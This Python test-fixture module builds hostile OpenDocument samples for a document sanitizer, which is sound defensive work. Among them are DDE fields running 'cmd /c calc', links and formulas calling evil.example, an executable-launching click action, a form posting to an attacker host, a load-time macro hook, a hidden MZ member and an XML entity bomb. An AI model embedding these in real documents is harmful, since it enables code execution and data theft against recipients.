# SPDX-License-Identifier: Apache-2.0
"""The OpenDocument files of the samples: CASES says of each how it is made,
which words its report must count, and what must (or must not) be in what
leaves. The numbers are those of the catalogue of attacks (O029 …). make_odf.py
makes the members.
"""
import base64

from make_odf import NS, TYPE, File, Flat, cell, frame, image, p, table
from make_slides import MARKER, png
from make_svm import svm

MARK = MARKER.decode()


class Case:
    def __init__(self, name, file, suffix=".odt", counts=(), kept=(), gone=(), verdict="cleaned", out=None):
        self.name, self.file, self.suffix, self.out = name, file, suffix, out or suffix
        self.counts, self.kept, self.gone, self.verdict = counts, kept, gone, verdict

    def bytes(self):
        return self.file if isinstance(self.file, bytes) else self.file.bytes()


WAREKI = ('<number:date-style style:name="N1" number:language="ja" number:country="JP"><number:era '
          'number:style="long" number:calendar="gengou"/><number:year number:calendar="gengou"/>'
          "<number:text>年</number:text><number:month/><number:text>月</number:text></number:date-style>")
STYLES = ('<style:style style:name="R1" style:family="ruby"><style:ruby-properties style:ruby-align="center"/>'
          '</style:style><style:style style:name="S1" style:family="section"><style:section-properties '
          'style:writing-mode="tb-rl"/></style:style>' + WAREKI)
RUBY = ('<text:ruby text:style-name="R1"><text:ruby-base>関所</text:ruby-base>'
        "<text:ruby-text>せきしょ</text:ruby-text></text:ruby>")
MERGED = ('<table:table table:name="様式"><table:table-column table:number-columns-repeated="3"/><table:table-row>'
          '<table:table-cell table:number-columns-spanned="2" table:number-rows-spanned="1"><text:p>氏名</text:p>'
          "</table:table-cell><table:covered-table-cell/><table:table-cell><text:p>印</text:p></table:table-cell>"
          "</table:table-row></table:table>")
NOTE = ('<text:note text:id="ftn1" text:note-class="footnote"><text:note-citation>1</text:note-citation>'
        f"<text:note-body>{p('脚注')}</text:note-body></text:note>")
TOC = ('<text:table-of-content text:name="目次1"><text:table-of-content-source text:outline-level="3"/>'
       '<text:index-body>' + p('<text:a xlink:type="simple" xlink:href="#節1">第1節</text:a>') +
       "</text:index-body></text:table-of-content>")
SHAPE = ('<draw:custom-shape text:anchor-type="as-char" svg:width="3cm" svg:height="2cm">' + p("図形") +
         '<draw:enhanced-geometry svg:viewBox="0 0 21600 21600" draw:type="round-rectangle" draw:modifiers="3600" '
         'draw:enhanced-path="M ?f0 0 L 21600 21600 Z N"><draw:equation draw:name="f0" draw:formula="$0 *2/3"/>'
         "</draw:enhanced-geometry></draw:custom-shape>")
BOX = frame(f"<draw:text-box>{p('枠の中')}</draw:text-box>")
FORM = (p("申請書（" + RUBY + "）" + NOTE) + TOC + MERGED + p(SHAPE) + p(BOX) +
        '<text:section text:style-name="S1" text:name="縦書き">' + p("縦書きの本文") + "</text:section>" +
        p(frame(image("Pictures/a.png"))))
CHART = ("<office:body><office:chart><chart:chart chart:class=\"chart:bar\" xlink:href=\"..\" xlink:type=\"simple\">"
         "<chart:title><text:p>人口</text:p></chart:title><chart:plot-area "
         "table:cell-range-address=\"Sheet1.$A$1:.$B$2\"/></chart:chart></office:chart></office:body>")
SHEET = table([["名", cell(3)], ["計", cell(7, "of:=SUM([.B1:.B2])")]])
VALIDATION = ('<table:content-validations><table:content-validation table:name="v1" '
              'table:condition="of:cell-content-is-in-list(&quot;男&quot;;&quot;女&quot;)"/>'
              "</table:content-validations>")
CONDITIONAL = ('<calcext:conditional-formats><calcext:conditional-format calcext:target-range-address="Sheet1.A1:'
               'Sheet1.B2"><calcext:condition calcext:apply-style-name="赤" calcext:value="&gt;3" '
               'calcext:base-cell-address="Sheet1.A1"/></calcext:conditional-format></calcext:conditional-formats>')
LOEXT = 'xmlns:loext="urn:org:documentfoundation:names:experimental:office:xmlns:loext:1.0"'
FADE = ('<anim:par presentation:node-type="timing-root"><anim:seq><anim:par smil:begin="next"><anim:set '
        'smil:targetElement="i1" smil:attributeName="visibility" smil:to="visible"/></anim:par></anim:seq></anim:par>')


def page(inside, notes=""):
    return (f'<draw:page draw:name="題名" draw:master-page-name="標準">{inside}'
            f"<presentation:notes>{frame('<draw:text-box>' + p(notes) + '</draw:text-box>')}</presentation:notes>"
            "</draw:page>")


BASIC = ('<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-embedded '
         f'ooo:name="Standard">{MARK}</ooo:library-embedded></ooo:libraries></office:script>'
         '<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" '
         'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
         "</office:event-listeners></office:scripts>")
PYTHON = ('<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" '
          'script:event-name="office:new" xlink:href="vnd.sun.star.script:a.py$main?language=Python"/>'
          "</office:event-listeners></office:scripts>")


def link(target, text="本文"):
    return f'<text:a xlink:type="simple" xlink:href="{target}">{text}</text:a>'


def encrypted():
    file = File(p("秘"))
    file.xml("content.xml", "content", file.content)
    return file.add("META-INF/manifest.xml", file.manifest(
        '<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="AAAA"/>'))


def fuller(inside, **more):
    return File(p("本文") + inside, **more)


def with_prefix(file):
    return b"MZ" + MARKER + file.bytes()


def ole():
    return fuller(p(frame('<draw:object-ole xlink:href="./Object 1" xlink:type="simple"/>' +
                          image("./ObjectReplacements/Object 1"))))


SETTINGS = ('<office:settings><config:config-item-set config:name="ooo:configuration-settings">'
            '<config:config-item config:name="PrinterName" config:type="string">\\\\host\\p</config:config-item>'
            '<config:config-item config:name="CurrentDatabaseDataSource" config:type="string">db</config:config-item>'
            '<config:config-item config:name="AddParaTableSpacing" config:type="boolean">true</config:config-item>'
            "</config:config-item-set></office:settings>")
META = ('<office:meta><dc:title>題名</dc:title><meta:initial-creator>山田</meta:initial-creator>'
        '<meta:template xlink:href="http://evil.example/t.ott"/><meta:auto-reload xlink:href="http://evil.example/r" '
        'meta:delay="PT1S"/></office:meta>')
BOMB = ('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
        f'<office:document-content {NS}><office:body><office:text>' + p("&b;") +
        "</office:text></office:body></office:document-content>")
GRAPHIC = base64.b64encode(png()).decode()

CASES = [
    Case("form", File(FORM, styles=STYLES).picture(),
         kept=["せきしょ", "tb-rl", "gengou", "spanned", "脚注", 'xlink:href="#節1"', "enhanced-path", "枠の中",
               "Pictures/1.png"]),
    Case("sheet", File(VALIDATION + SHEET[:-len("</table:table>")] + CONDITIONAL + "</table:table>", "spreadsheet"),
         ".ods", kept=["of:=SUM([.B1:.B2])", "cell-content-is-in-list", "calcext:apply-style-name"]),
    Case("chart", File(SHEET.replace("<table:table-row>", "<table:shapes>" + frame(
        '<draw:object xlink:href="./Object 1" xlink:type="simple"/>') + "</table:shapes><table:table-row>", 1),
        "spreadsheet").xml("Object 1/content.xml", "content", CHART), ".ods",
         kept=["人口", "opendocument.chart"]),
    Case("slides", File(page(frame("<draw:text-box>" + p("説明会") + "</draw:text-box>", 'draw:id="i1"') + FADE,
                             "ノート"), "presentation"), ".odp", kept=["説明会", "ノート", "smil:attributeName"]),
    Case("template", File(p("ひな形"), "text-template"), ".ott", kept=["ひな形"]),
    Case("flat", Flat(p("平") + p(frame(f"<draw:image><office:binary-data>{GRAPHIC}</office:binary-data>"
                                        "</draw:image>"))), ".fodt", ["format-changed"],
         ["平", "Pictures/1.png"], out=".odt"),
    # O029: programs, events, links that fetch
    Case("O029-basic", File(p("本文"), scripts=BASIC).add("Basic/Standard/Module1.xml", MARK).add(
        "Basic/script-lc.xml", "<x/>").add("Dialogs/dialog-lc.xml", "<x/>"), counts=["basic", "event-handler"],
         kept=["本文"], gone=["vnd.sun"]),
    Case("O029-python", File(p("本文"), scripts=PYTHON).add("Scripts/python/a.py", MARK),
         counts=["script", "event-handler"], kept=["本文"], gone=["Python"]),
    Case("O029-flat-script", Flat(p("本文"), before=BASIC), ".fodt", ["basic", "event-handler"], ["本文"],
         ["vnd.sun"], out=".odt"),
    Case("O029-shape-event", File(page(
        '<draw:rect svg:width="1cm" svg:height="1cm"><office:event-listeners><presentation:event-listener '
        'script:event-name="dom:click" presentation:action="execute" xlink:href="file:///c:/x.exe"/>'
        "</office:event-listeners></draw:rect>"), "presentation"), ".odp", ["event-handler"], ["draw:rect"],
         ["x.exe"]),
    Case("O029-links", fuller(p(link("file:///c:/x.exe", "甲") + link("vnd.sun.star.script:x", "乙") +
                                link("https://bank.example@evil.example/", "丙") + link("smb://x/y", "丁") +
                                link("https://city.example.jp/", "戊"))), counts=["hyperlink"],
         kept=[">甲<", ">乙<", ">丙<", ">丁<", 'xlink:href="#"', "https://city.example.jp/"], gone=["x.exe", "evil", "smb"]),
    Case("O029-tip", fuller(p(link("https://evil.example/", "甲").replace(
        "<text:a ", '<text:a office:title="https://bank.example/" '))), counts=["link-text"],
         kept=[">甲<", "https://evil.example/"], gone=["bank"]),
    Case("O029-remote-picture", fuller(p(frame(image("http://evil.example/t.gif")))), counts=["remote-image"],
         kept=["Pictures/removed.png"], gone=["evil"]),
    Case("O029-section", fuller('<text:section text:name="s"><text:section-source '
                                'xlink:href="http://evil.example/a.odt"/>' + p("最後") + "</text:section>"),
         counts=["external-source"], kept=["最後"], gone=["evil"]),
    Case("O029-dde", fuller('<text:p><text:dde-connection text:connection-name="d">値</text:dde-connection></text:p>',
                            before='<text:dde-connection-decls><text:dde-connection-decl '
                            'office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x" '
                            'office:name="d"/></text:dde-connection-decls>'), counts=["dde"], kept=["値"],
         gone=["calc"]),
    Case("O029-sheet-dde", File(table([[cell(7, "of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)"),
                                        cell(8, "of:=['file:///c:/a.ods'#$Sheet1.A1]"),
                                        cell(9, "of:=WEBSERVICE(&quot;http://evil.example/&quot;)")]]) +
                                '<table:dde-links><table:dde-link><office:dde-source office:dde-application="cmd" '
                                'office:dde-topic="/c calc" office:dde-item="x"/></table:dde-link></table:dde-links>',
                                "spreadsheet"), ".ods", ["formula", "dde"],
         ['office:value="7"', 'office:value="8"', 'office:value="9"'], ["calc<", "a.ods", "evil"]),
    Case("O029-ole", ole().add("Object 1", b"\xd0\xcf\x11\xe0" + MARKER).add("ObjectReplacements/Object 1", png()),
         counts=["embedded-object"], kept=["Pictures/1.png"], gone=["object-ole"]),
    Case("O029-ole-no-picture", ole().add("Object 1", MARKER).add("ObjectReplacements/Object 1", MARKER),
         counts=["embedded-object"], kept=["Pictures/removed.png"], gone=["object-ole"]),
    # The program's own pictures of objects: written anew, without comments.
    Case("O029-ole-metafile", ole().add("Object 1", b"\xd0\xcf\x11\xe0" + MARKER).add(
        "ObjectReplacements/Object 1", svm("名簿", MARKER)), counts=["embedded-object", "unknown-record"],
         kept=["Pictures/1.svm", "x-openoffice-gdimetafile"], gone=["object-ole"]),
    Case("O029-object-metafile", File(SHEET.replace("<table:table-row>", "<table:shapes>" + frame(
        '<draw:object xlink:href="./Object 1" xlink:type="simple"/>' + image("./ObjectReplacements/Object 1")) +
        "</table:shapes><table:table-row>", 1), "spreadsheet").xml("Object 1/content.xml", "content", CHART).add(
            "ObjectReplacements/Object 1", svm("人口", MARKER)), ".ods", counts=["unknown-record"],
         kept=['xlink:href="ObjectReplacements/Object 1"', "x-openoffice-gdimetafile"]),
    Case("O029-plugin", fuller(p(frame('<draw:plugin xlink:href="http://evil.example/a.swf"/>') +
                                 frame('<draw:floating-frame xlink:href="http://evil.example/"/>') +
                                 frame('<draw:applet draw:code="A" xlink:href="a.jar"/>'))),
         counts=["embedded-object", "floating-frame"], gone=["evil", "a.jar"]),
    Case("O029-form", fuller(p('<draw:control text:anchor-type="as-char" draw:control="c1"/>'), before=(
        '<office:forms><form:form form:name="f" xlink:href="http://evil.example/post" form:method="post" '
        'form:datasource="db" form:command="t"><form:button form:id="c1" form:label="送信" form:button-type="submit" '
        'xlink:href="http://evil.example/b"/></form:form></office:forms>')), counts=["form"], kept=["送信"],
         gone=["evil", "submit", "datasource"]),
    Case("O029-pivot", File(SHEET + '<table:data-pilot-tables><table:data-pilot-table table:name="gone" '
                            'table:target-range-address="Sheet1.A1"><table:source-service table:name="s" '
                            'table:source-name="db" table:object-name="t"/></table:data-pilot-table>'
                            "</table:data-pilot-tables>", "spreadsheet"), ".ods", ["database"], ["Sheet1"], ["gone"]),
    Case("O029-settings", fuller("").xml("settings.xml", "settings", SETTINGS), counts=["setting"],
         kept=["AddParaTableSpacing"], gone=["Printer", "Database"]),
    Case("O029-metadata", fuller("").xml("meta.xml", "meta", META), counts=["external-target"], kept=["題名", "山田"],
         gone=["evil"]),
    Case("O029-signed", fuller("").add("META-INF/documentsignatures.xml", f"<x>{MARK}</x>").add(
        "manifest.rdf", f"<x>{MARK}</x>").add("Thumbnails/thumbnail.png", png()), counts=["signature", "thumbnail"],
         kept=["本文"]),
    Case("O029-hidden-member", fuller("").add("media/a.exe", b"MZ" + MARKER).add("Object 9/content.xml", MARK),
         counts=["unknown-part"], kept=["本文"]),
    Case("O029-font", File(p("本文"), styles="", scripts='<office:font-face-decls><style:font-face style:name="F">'
                           '<svg:font-face-src><svg:font-face-uri xlink:href="http://evil.example/f.ttf"/>'
                           "</svg:font-face-src></style:font-face></office:font-face-decls>"), counts=["font-data"],
         kept=['style:name="F"'], gone=["evil"]),
    Case("hidden-shape", File(page(f'<draw:rect xmlns:drawooo="http://openoffice.org/2010/draw" drawooo:display="none" '
                                   f'svg:width="1cm" svg:height="1cm">{p("控え")}</draw:rect>'), "presentation"), ".odp",
         [], ['drawooo:display="none"']),
    # what LibreOffice adds: the looks of cells of slides, the words of an object
    Case("additions", File(page(frame(table([["甲"]])) + frame(
        f'<draw:object xlink:href="./Object 1"><loext:p {LOEXT}>物の文</loext:p></draw:object>')), "presentation", styles=(
            f'<style:style style:name="ce1" style:family="table-cell"><loext:graphic-properties {LOEXT} fo:padding-top="0cm" '
            'draw:textarea-vertical-align="top"/></style:style>')).xml("Object 1/content.xml", "content", CHART), ".odp",
         [], ["甲", "物の文", 'fo:padding-top="0cm"', 'draw:textarea-vertical-align="top"']),
    Case("master", File('<text:section text:name="a"><text:section-source xlink:href="http://evil.example/a.odt"/>' +
                        p("取り込んだ章") + "</text:section>", says=TYPE + "text-master"), ".odm",
         ["external-source", "format-changed"], ["取り込んだ章"], ["evil"], out=".odt"),
    Case("web", File(p("頁"), says=TYPE + "text-web"), ".oth", ["format-changed"], ["頁"], out=".odt"),
    # what a file says it is, and is not
    Case("O030-renamed", File(p("本文")), ".doc", kept=["本文"], out=".odt"),
    Case("O031-prefixed", with_prefix(File(p("本文"))), verdict="removed"),
    Case("encrypted", encrypted(), verdict="removed"),
    Case("mimetype-lies", File(SHEET, "spreadsheet", says="application/vnd.oasis.opendocument.text"),
         verdict="removed"),
    Case("entity-bomb", File("").add("styles.xml", BOMB), verdict="removed"),
    Case("deep", File("<text:section>" * 300 + "</text:section>" * 300), verdict="removed"),
    Case("itself", fuller(p(frame('<draw:object xlink:href="./Object 1"/>'))).xml(
        "Object 1/content.xml", "content", "<office:body><office:text>" + p(frame(
            '<draw:object xlink:href="../Object 1"/>')) + "</office:text></office:body>"), kept=["本文"],
         counts=["external-target"]),
    Case("remote-relation-in-object", fuller(p(frame('<draw:object xlink:href="./Object 1"/>'))).xml(
        "Object 1/content.xml", "content", "<office:body><office:text>" + p("内側") + p(frame(
            image("http://evil.example/t.gif"))) + "</office:text></office:body>"), kept=["内側"],
         counts=["remote-image"], gone=["evil"]),
]
